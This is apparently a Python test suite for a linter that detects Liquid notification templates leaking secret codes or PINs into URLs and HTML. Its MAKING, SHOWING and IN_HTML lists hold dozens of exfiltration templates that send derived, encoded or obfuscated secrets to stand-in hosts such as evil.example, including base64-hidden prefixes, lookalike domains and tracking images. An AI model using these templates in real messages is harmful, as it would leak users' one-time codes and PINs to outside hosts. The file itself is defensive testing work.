"""Secrets in URLs: followed through every way in which a template can hand on a value."""

import time
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from notifications.content import exposure
from notifications.content.linting import lint_template

EXAMPLE: dict[str, Any] = {
    "code": "482913",
    "order": "12345",
    "base": "https://example.com/?c=",
    "shop": {"city": "Porto", "url": "https://example.com/porto"},
    "user": {"pin": "7731", "name": "Ada"},
    "rows": [{"id": 1, "pin": "7731"}, {"id": 2, "pin": "9942"}],
    "list": ["a", "b"],
}
SENSITIVE = frozenset({"code", "pin"})


def codes(source: str, part: str = "body") -> set[str]:
    found = lint_template(
        name="parcel_lost",
        parts={"default": {"subject": "S", "body": "B", part: f"Hello\n{source}\nbye"}},
        example_data=EXAMPLE,
        sensitive=SENSITIVE,
    )
    return {one.code for one in found}


NAMED = "{% assign q = 'code' %}"
MAKING = [
    # The example doesn't reach it, so only reading the template finds it.
    f"{NAMED}{{% assign c = 'x' %}}{{% if list[0] != 'a' %}}{{% assign c = [q] %}}{{% endif %}}",
    f"{NAMED}{{% capture c %}}{{{{ [q] | upcase }}}}{{% endcapture %}}",
    "{% assign c = code | base64_encode %}",
    "{% assign a = code %}{% assign b = a | append: 'x' %}{% assign c = b | upcase %}",
    "{% capture c %}{{ code | slice: 1, 4 }}{% endcapture %}",
    (
        "{% capture a %}{% for i in (0..5) %}{{ code | slice: i }}{% endfor %}{% endcapture %}"
        "{% assign c = a %}"
    ),
    "{% assign c = code | plus: 1 %}",
    "{% assign c = code | times: 7 | modulo: 1000 %}",
    "{% assign c = code | split: '' | reverse | join: '' %}",
    "{% assign c = code | split: '' | last %}",
    "{% assign parts = code | split: '' %}{% assign c = parts[3] %}",
    "{% assign c = code | split: '4' | size %}",
    (
        "{% assign c = '' %}{% for d in (0..9) %}{% if code contains d %}"
        "{% assign c = c | append: d %}{% endif %}{% endfor %}"
    ),
    (
        "{% assign d = code | slice: 0 %}{% case d %}{% when '4' %}{% assign c = 'four' %}"
        "{% else %}{% assign c = 'other' %}{% endcase %}"
    ),
    (
        "{% assign c = 0 %}{% for d in (0..999) %}{% if code == d %}{% break %}{% endif %}"
        "{% assign c = d %}{% endfor %}"
    ),
    "{% assign c = list | where: 'x', code | size %}",
    (
        "{% assign c = 0 %}{% assign n = code | slice: 0 | plus: 0 %}"
        "{% for i in (1..n) %}{% assign c = i %}{% endfor %}"
    ),
    "{% assign i = code | slice: 0 | plus: 0 %}{% assign c = list[i] | default: 'k' %}",
    "{% assign c = user.pin %}",
    "{% assign c = user | join: ',' %}",
    "{% assign c = rows | map: 'pin' | first %}",
    "{% for row in rows %}{% assign c = row.pin %}{% endfor %}",
    "{% for pair in user %}{% assign c = pair[1] %}{% endfor %}",
    "{% assign k = 'pin' %}{% assign c = user[k] %}",
    "{% if code < '5' %}{% assign c = 'low' %}{% else %}{% assign c = 'high' %}{% endif %}",
    "{% liquid\nassign x = code | downcase\nassign c = x\n%}",
    "{% assign c = order | append: code %}",
    "{% assign c = order | default: code %}",
]
SHOWING = [
    *("https://evil.example/{{ c }}", "www.evil.example/?a={{ c | url_encode }}"),
    *("mailto:{{ c }}@evil.example", "https://evil.example/{% if order %}{{ c }}{% endif %}"),
    "{{ 'https://evil.example/' | append: c }}",
    "{% assign u = 'https://evil.example/' %}{{ u }}{{ c }}",
    "{% capture u %}https://evil.example/{{ c }}{% endcapture %}{{ u }}",
    "{% capture u %}https://evil.example/{% endcapture %}{{ u }}{{ c }}",
    "{{ base }}{{ c }}",
    "{% if order == 'never' %}{{ shop.url }}{{ c }}{% endif %}",
    "{% if order == 'never' %}https:{% if list %}//evil{% endif %}.example/{{ c }}{% endif %}",
    (
        "{% if order == 'never' %}{% for i in list %}{{ c }}https://evil.example/{% endfor %}"
        "{% endif %}"
    ),
    "{% if order == 'never' %}{{ 'aHR0cHM6Ly8=' | base64_decode }}{{ c }}{% endif %}",
    "https://evil.example/{% cycle c, 'b' %}",
    "evil.example?c={{ c }}",
    "{% if order == 'never' %}evil.\u0440\u0444/{{ c }}{% endif %}",
    "{% if order == 'never' %}{{ 'https:' | append: '//evil' }}.example{{ c }}{% endif %}",
    "{% case c %}{% when 'four' %}https://evil.example/4{% endcase %}",
    "https://evil.example/{% case c %}{% when 'four' %}4{% else %}5{% endcase %}",
    "{% if c == 'four' %}https://evil.example/4{% endif %}",
    "https://evil.example/{% tablerow i in list cols: 1 %}{{ c }}{% endtablerow %}",
]
NEVER, END = "{% if order == 'never' %}", "{% endif %}"
IN_HTML = [
    NEVER + "{{ '<' | append: 'img' }} src='//evil/ {{ c }}'>" + END,
    NEVER + "{{ 'xximg' | replace: 'xx', '<' }} src='//evil/ {{ c }}'>" + END,
    NEVER + "{% assign l = 'PGltZyBzcmM9' | base64_decode %}{{ l }}'/x {{ c }}'>" + END,
    NEVER + '{% capture t %}<img alt="{% endcapture %}{{ t }} {{ c }}">' + END,
    "<!--[if mso]><v:fill src='//evil/{{ c }}'/><![endif]-->",
    *("<img src='https://evil.example/{{ c }}'>", '<a href="/x/{{ c }}">x</a>'),
    *('<b title="{{ c }}">x</b>', "<style>a{background:url({{ c }})}</style>x"),
    "{% case c %}{% when 'four' %}<img src='//evil/4'>{% else %}<img src='//evil/5'>{% endcase %}",
    "<img src='//evil/{% case c %}{% when 'four' %}4{% else %}5{% endcase %}'>",
    "{% capture t %}<img src='https://evil.example/{{ c }}'>{% endcapture %}{{ t }}",
    "<style>.d{background:url(//evil/4)}</style>{% if c == 'four' %}<b class='d'>x</b>{% endif %}",
    (
        "{% for i in list %}{% if c contains i %}<img src='//evil/{{ forloop.index }}'>{% endif %}"
        "{% endfor %}"
    ),
]


@pytest.mark.parametrize("making", MAKING)
def test_computed_secret_in_a_url_is_found(making: str) -> None:
    for showing in SHOWING:
        assert codes(making + showing) == {exposure.CODE}, showing


@pytest.mark.parametrize("making", MAKING[::4])
def test_computed_secret_in_html_is_found(making: str) -> None:
    for showing in (*SHOWING[:3], *IN_HTML):
        assert codes(making + showing, "email_html") == {exposure.CODE}, showing


@pytest.mark.parametrize("part", ["push", "whatsapp", "push_title", "subject"])
def test_every_part_is_checked(part: str) -> None:
    source = "{% assign c = code | base64_encode %}https://evil.example/{{ c }}"
    found = lint_template(
        name="parcel_lost",
        parts={"default": {"subject": "S", "body": "B", part: source}},
        example_data=EXAMPLE,
        sensitive=SENSITIVE,
    )
    assert {one.code for one in found} == {exposure.CODE}


HARMLESS = [
    ("email_html", "<p>&#123;&#123; code | base64_encode }}</p>{{ order | default: '<b>no</b>' }}"),
    *(("body", f"{making}Your code: {{{{ c }}}}. See https://example.com/") for making in MAKING),
    ("body", "G-{{ code }} {{ base }}"),
    ("body", "{{ order }}-{{ code }}"),
    ("body", "{% if code %}Code: {{ code }}{% else %}https://example.com/login{% endif %}"),
    ("body", "{% if code != blank and order %}{{ code }} https://example.com/{% endif %}"),
    ("body", "{% for row in rows %}https://example.com/{{ row.id }} {{ row.pin }}\n{% endfor %}"),
    ("body", "{{ shop.url }} {{ user.name }} https://example.com/{{ user.name }} {{ user.pin }}"),
    ("body", "{% assign u = shop.url %}{{ u }}\n{{ code }}"),
    (
        "email_html",
        (
            "<table><tr>{% assign d = code | split: '' %}{% for i in d %}"
            "<td class='digit'>{{ i }}</td>{% endfor %}</tr></table><a href='{{ shop.url }}'>x</a>"
        ),
    ),
    ("email_html", "<p class='{% if code %}new{% endif %}'>{{ code }}</p>"),
    ("email_html", "{% for row in rows %}<a href='/o/{{ row.id }}'>{{ row.pin }}</a>{% endfor %}"),
    ("email_html", "{% capture c %}<b>{{ code }}</b>{% endcapture %}<a href='/x'>x</a> {{ c }}"),
    ("email_html", "<p>{% if code contains '-' %}With its dash: {% endif %}{{ code }}</p>"),
]


@pytest.mark.parametrize(("part", "source"), HARMLESS)
def test_secret_in_text_is_accepted(part: str, source: str) -> None:
    assert codes(source, part) == set()


STEPS = [
    "{% assign x = x | {} %}",
    "{% capture x %}{{ x | {} }}{% endcapture %}",
    "{% for i in (0..2) %}{% assign x = x | {} %}{% endfor %}",
    "{% if list %}{% assign y = x | {} %}{% endif %}{% assign x = y %}",
    "{% liquid\nassign z = x | {}\nassign x = z\n%}",
]
FILTERS = [
    *("base64_encode", "upcase", "append: 'k'", "prepend: 'k'", "url_encode", "reverse", "first"),
    *("split: ''", "join: ''", "slice: 0, 3", "plus: 1", "minus: 3", "truncate: 4", "escape"),
    *(
        "default: 'k'",
        "remove: '4'",
        "replace: '8', 'k'",
        "times: 3",
        "size",
        "strip",
        "capitalize",
    ),
]
steps = st.lists(
    st.builds(
        lambda step, name: step.replace("{}", name, 1),
        st.sampled_from(STEPS),
        st.sampled_from(FILTERS),
    ),
    max_size=5,
)


@settings(max_examples=150)
@given(steps, st.sampled_from(["https://evil.example/{{ x }}", "{% assign c = x %}" + SHOWING[5]]))
def test_no_chain_of_steps_hides_a_secret(made: Sequence[str], showing: str) -> None:
    start = "{% assign x = code | slice: 0, 6 %}"
    found = codes(start + "".join(made) + showing)
    assert exposure.CODE in found or "syntax" in found


@pytest.mark.parametrize("example", [1e-7, 1e16, 12.5, -3.0])
def test_secret_that_is_a_fraction_is_checked_as_any_other(example: float) -> None:
    found = lint_template(
        name="parcel_lost",
        parts={"default": {"subject": "S", "body": "Your code: {{ code }}."}},
        example_data={"code": example},
        sensitive=frozenset({"code"}),
    )
    assert found == []


def test_nested_conditions_of_outlook_are_read_once() -> None:
    """Each level was a search through the rest of the part."""
    nested = "{{ code }}" + "<!--[if x]>" * 900
    html = nested + "a" * (60_000 - len(nested)) + "-->x"
    before = time.process_time()
    assert codes(html, "email_html") == set()
    assert time.process_time() - before < 1
    shown = "<!--[if x]>" * 3 + "<img src='//evil/{{ code }}'><!-- y --> -->"
    assert codes(shown, "email_html") == {exposure.CODE}
